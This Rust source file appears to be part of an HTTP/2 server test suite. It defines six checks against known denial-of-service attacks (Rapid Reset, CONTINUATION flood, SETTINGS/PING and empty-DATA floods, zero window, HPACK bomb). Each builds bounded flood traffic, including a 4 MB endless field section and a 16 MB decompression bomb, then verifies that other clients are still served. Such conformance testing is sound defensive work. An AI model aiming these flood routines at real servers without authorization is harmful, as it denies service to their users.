//! What one client can do to all others: the attacks of the last years, in small (RFC 9113 §10.5).
//!
//! Each is bounded, so that no server in good order feels it. It may be answered or refused as the
//! server likes; but others are served meanwhile and afterwards.

use crate::check::{Check, Clause, Level, Profile, Proof, incident, rfc9113};
use crate::checks::http2::WHOLE;
use crate::judge::{GET, Judged, Lapse, POST, Trial, demand};
use crate::wire::http2::{
    self, CONTINUATION, DATA, END_STREAM, Frame, HEADERS, Link, PING, RST_STREAM, SETTINGS,
};

/// Streams that are opened and reset.
const RESETS: u32 = 2_000;

/// Frames of a few bytes.
const SMALL: usize = 10_000;

/// Bytes of a field section that does not end; no server takes as many.
const ENDLESS: usize = 4 * 1024 * 1024;

const MANY: Clause = rfc9113(
    "10.5",
    "frames that are legal can be sent to burden a server, which should watch for them",
);

const FIX: &str = "give each connection a budget of what it may cost, and say ENHANCE_YOUR_CALM";

pub(in crate::checks) const FLOODS: &[Check] = &[
    Check {
        id: "H2-100",
        slug: "h2-rapid-reset",
        title: "Streams that are opened and reset at once stop nobody else",
        level: Level::DeFacto,
        profile: Profile::Http2,
        clauses: &[
            incident("CVE-2023-44487 (Rapid Reset)", "each reset made room for another request"),
            MANY,
        ],
        seeds: "",
        means: "one client keeps the server at work for answers that nobody reads",
        fix: "count a stream until its work has ended, not until its reset",
        proof: Proof::Holds(rapid_reset),
    },
    Check {
        id: "H2-101",
        slug: "h2-endless-block",
        title: "A field section without end is not read for ever",
        level: Level::DeFacto,
        profile: Profile::Http2,
        clauses: &[
            incident("CVE-2024-27316 and others (CONTINUATION flood)", "blocks had no limit"),
            rfc9113("10.5.1", "a server may limit the size of a field section"),
        ],
        seeds: "attack 16",
        means: "one client fills the memory of the server",
        fix: "count the bytes of a block over all its frames, and end the connection at a limit",
        proof: Proof::Holds(endless_block),
    },
    Check {
        id: "H2-102",
        slug: "h2-settings-flood",
        title: "SETTINGS and pings whose answers nobody reads stop nobody else",
        level: Level::DeFacto,
        profile: Profile::Http2,
        clauses: &[
            incident("CVE-2019-9512 and CVE-2019-9515", "answers were queued without a limit"),
            MANY,
        ],
        seeds: "",
        means: "one client fills the memory of the server",
        fix: "stop reading while answers wait to be written",
        proof: Proof::Holds(settings_flood),
    },
    Check {
        id: "H2-103",
        slug: "h2-empty-data-flood",
        title: "Empty DATA without an end stop nobody else",
        level: Level::DeFacto,
        profile: Profile::Http2,
        clauses: &[
            incident("CVE-2019-9518", "frames without content cost time, and no window"),
            MANY,
        ],
        seeds: "",
        means: "one client keeps a core busy",
        fix: FIX,
        proof: Proof::Holds(empty_data_flood),
    },
    Check {
        id: "H2-104",
        slug: "h2-no-window",
        title: "Answers that nobody makes room for stop nobody else",
        level: Level::DeFacto,
        profile: Profile::Http2,
        clauses: &[
            incident("CVE-2019-9511 and CVE-2019-9517", "answers were kept, and never sent"),
            MANY,
        ],
        seeds: "",
        means: "one client takes all threads, or all memory",
        fix: "let no thread wait for a window, and drop what waits too long",
        proof: Proof::Holds(no_window),
    },
    Check {
        id: "H2-105",
        slug: "h2-block-bomb",
        title: "A small block that unpacks to megabytes is refused",
        level: Level::DeFacto,
        profile: Profile::Http2,
        clauses: &[
            incident(
                "CVE-2016-6581 (HPACK bomb)",
                "a large field was put into the table once, and named thousands of times",
            ),
            rfc9113("10.5.1", "a server may limit the size of a field section, as unpacked"),
        ],
        seeds: "attack 16",
        means: "a few kilobytes of a peer take gigabytes of the server",
        fix: "count unpacked bytes and fields while the block is read, and drop the rest",
        proof: Proof::Holds(block_bomb),
    },
];

/// Others are answered while a connection is as it is.
fn others_are_served(trial: &Trial<'_>) -> Judged {
    trial.canary_in_http2().map_err(Lapse::about("to another client"))
}

/// Reads what came, and forgets it; a connection that ended is as good.
fn drain(link: &mut Link) {
    let _whatever = link.wait(std::time::Duration::from_millis(1), |_| false);
}

/// Waits until the server has looked at all of it, unless it gave the connection up.
fn looked_at(link: &mut Link) {
    if !is_given_up(link) {
        let _whatever = link.ping_through();
    }
}

fn is_given_up(link: &Link) -> bool {
    link.has_ended() || link.peer().goaway.is_some()
}

fn rapid_reset(trial: &Trial<'_>) -> Judged {
    let mut link = trial.http2()?;
    let first = link.next_stream();
    for batch in 0..RESETS / 100 {
        let mut bytes = Vec::new();
        for number in 0..100 {
            let stream = first + 2 * (100 * batch + number);
            let target = trial.target_of("reply", "reset");
            let block = trial.fill(&target).block(&[GET]);
            link.expect(stream);
            bytes.extend(Frame::new(HEADERS, WHOLE, stream, block).to_bytes());
            bytes.extend(Frame::new(RST_STREAM, 0, stream, *b"\0\0\0\x08").to_bytes());
        }
        if !link.flood("100 times HEADERS and RST_STREAM", &bytes) {
            break;
        }
        drain(&mut link);
        if is_given_up(&link) {
            break;
        }
        if batch == RESETS / 200 {
            others_are_served(trial)?;
        }
    }
    looked_at(&mut link);
    others_are_served(trial)
}

fn endless_block(trial: &Trial<'_>) -> Judged {
    let mut link = trial.http2()?;
    let stream = link.next_stream();
    let target = trial.target_of("echo", &trial.nonce());
    let block = trial.fill(&target).block(&[GET]);
    link.send(&Frame::new(HEADERS, END_STREAM, stream, block));
    let mut piece = Vec::new();
    while piece.len() < 15_000 {
        http2::literal(&mut piece, b"x-more", &[b'y'; 100]);
    }
    let frame = Frame::new(CONTINUATION, 0, stream, piece.clone()).to_bytes();
    for _ in 0..ENDLESS / piece.len() {
        if !link.flood("CONTINUATION with a hundred fields", &frame) {
            others_are_served(trial)?;
            return Ok(());
        }
        drain(&mut link);
        let peer = link.peer();
        if is_given_up(&link) || peer.reply(stream).is_some_and(http2::Reply::is_over) {
            return others_are_served(trial);
        }
    }
    others_are_served(trial)?;
    demand(false, || format!("{ENDLESS} bytes of one field section were taken"))
}

fn settings_flood(trial: &Trial<'_>) -> Judged {
    let mut link = trial.http2()?;
    let one = [
        Frame::new(SETTINGS, 0, 0, *b"\0\x04\0\0\xFF\xFF").to_bytes(),
        Frame::new(PING, 0, 0, *b"12345678").to_bytes(),
    ];
    let bytes = one.concat().repeat(SMALL / 2);
    let _taken = link.flood("5000 times SETTINGS and PING", &bytes);
    others_are_served(trial)?;
    looked_at(&mut link);
    others_are_served(trial)
}

fn empty_data_flood(trial: &Trial<'_>) -> Judged {
    let mut link = trial.http2()?;
    let stream = trial.send_on(&mut link, 0, &[POST]);
    let bytes = Frame::new(DATA, 0, stream, []).to_bytes().repeat(SMALL);
    let _taken = link.flood("10000 times empty DATA", &bytes);
    others_are_served(trial)?;
    looked_at(&mut link);
    others_are_served(trial)
}

fn no_window(trial: &Trial<'_>) -> Judged {
    let mut link = trial.http2()?;
    link.send(&Frame::new(SETTINGS, 0, 0, *b"\0\x04\0\0\0\0"));
    for _ in 0..60 {
        let _held = trial.get_on(&mut link);
    }
    others_are_served(trial)?;
    looked_at(&mut link);
    others_are_served(trial)
}

/// A field of 4000 bytes, named four thousand times: 16 MB in 4 kB.
fn block_bomb(trial: &Trial<'_>) -> Judged {
    let mut link = trial.http2()?;
    let stream = link.next_stream();
    let nonce = trial.nonce();
    let target = trial.target_of("echo", &nonce);
    let mut block = trial.fill(&target).block(&[GET]);
    block.extend(b"\x40\x01x\x7F\xA1\x1E");
    block.extend([b'y'; 4_000]);
    block.extend([0xBE; 4_000]);
    link.send(&Frame::new(HEADERS, WHOLE, stream, block));
    let patience = link.patience();
    let is_clear = |peer: &http2::Peer| {
        peer.goaway.is_some() || peer.reply(stream).is_some_and(http2::Reply::is_over)
    };
    match link.wait(patience, is_clear) {
        Err(crate::wire::Missing::Ended(_)) => return others_are_served(trial),
        other => other?,
    }
    others_are_served(trial)?;
    let reply = link.peer().reply(stream);
    let status = reply.filter(|own| own.is_whole).map(|own| own.answer.status);
    let is_taken = status.is_some_and(|status| status < 400);
    demand(!is_taken, || "16 megabytes of fields were taken".to_owned())
}
